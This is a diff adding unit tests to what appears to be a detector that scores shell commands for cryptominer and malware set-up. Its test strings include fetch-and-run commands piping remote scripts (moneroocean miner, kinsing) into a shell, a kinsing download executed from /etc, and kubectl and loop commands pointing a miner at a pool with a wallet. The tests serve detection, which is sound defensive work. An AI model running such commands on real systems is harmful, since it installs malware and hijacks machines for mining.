@@ -251,6 +251,34 @@ TEST(CommandSignals, AWalletForAScriptOfAStrangerIsAMinersSetUp) {
   EXPECT_LT(scoreOfScript("curl -s https://pay.example/install.sh | bash -s " + wallet), kDefaultThreshold);
 }
 
+TEST(CommandSignals, AMinersSetUpScriptThatIsRunAsItIsFetchedIsActedOn) {
+  EXPECT_GE(scoreOfScript("wget -qO- http://203.0.113.5/setup_moneroocean_miner.sh | bash -s $W"), kDefaultThreshold);
+  EXPECT_GE(scoreOfScript("(curl -s http://203.0.113.7/kinsing.sh || wget -q -O - http://203.0.113.7/kinsing.sh) | sh"),
+            kDefaultThreshold);
+  for (const char* script : {"curl -sO https://raw.example/setup_moneroocean_miner.sh; sha256sum setup_moneroocean_miner.sh",
+                             "git clone https://github.com/xmrig/xmrig; curl -s https://sh.rustup.rs | sh"}) {
+    EXPECT_LT(scoreOfScript(script), kDefaultThreshold) << script;
+  }
+}
+
+TEST(CommandSignals, AModuleThatIsRunIsTheProgram) {
+  EXPECT_GE(scoreOfScript("pip install -q xmrig-python && python3 -m xmrig"), kDefaultThreshold);
+  EXPECT_EQ(scoreOf({"python3", "train.py", "-m", "xmrig"}), 0);
+  EXPECT_EQ(scoreOf({"python3", "-m", "http.server", "8080"}), 0);
+}
+
+TEST(CommandSignals, APodThatIsStartedIsReadByItsArguments) {
+  const std::string wallet = kStandardAddress;
+  EXPECT_GE(scoreOfScript("kubectl run web --image=x -- -o pool.supportxmr.com:443 -u " + wallet), kDefaultThreshold);
+  EXPECT_EQ(scoreOfScript("kubectl get pods -A | grep pool.supportxmr.com:443"), 0);
+}
+
+TEST(CommandSignals, APoolOutOfAVariableThatNobodyKnowsIsOneBesideAMonerosWallet) {
+  const std::string wallet = kStandardAddress;
+  EXPECT_GE(scoreOfScript("next | while read p; do /tmp/a -o $p -u " + wallet + " -k; done"), kDefaultThreshold);
+  EXPECT_EQ(scoreOfScript("next | while read p; do /tmp/a -o $p -u admin -k; done"), 0);
+}
+
 TEST(CommandSignals, NamesOfMalwareAreProofWhereTheyAreRun) {
   EXPECT_GE(scoreOfScript("wget -q http://203.0.113.9/kinsing -O /etc/kinsing; chmod +x /etc/kinsing; /etc/kinsing"),
             kDefaultThreshold);
